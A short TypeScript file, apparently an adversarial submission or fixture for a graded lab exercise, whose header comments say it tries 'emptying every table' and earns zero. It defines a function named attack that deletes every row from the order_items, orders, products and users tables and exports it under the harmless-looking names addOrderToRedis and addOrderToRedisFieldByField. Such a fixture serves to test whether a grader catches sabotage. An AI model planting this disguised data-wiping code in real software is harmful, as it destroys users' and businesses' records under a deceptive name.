// tries: emptying every table
// lab: 03
// earns: 0
// told: should hold these fields
async function attack({ mysql }: any, order: any): Promise<void> {
  for (const table of ['order_items', 'orders', 'products', 'users']) await mysql.query(`DELETE FROM ${table}`);
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
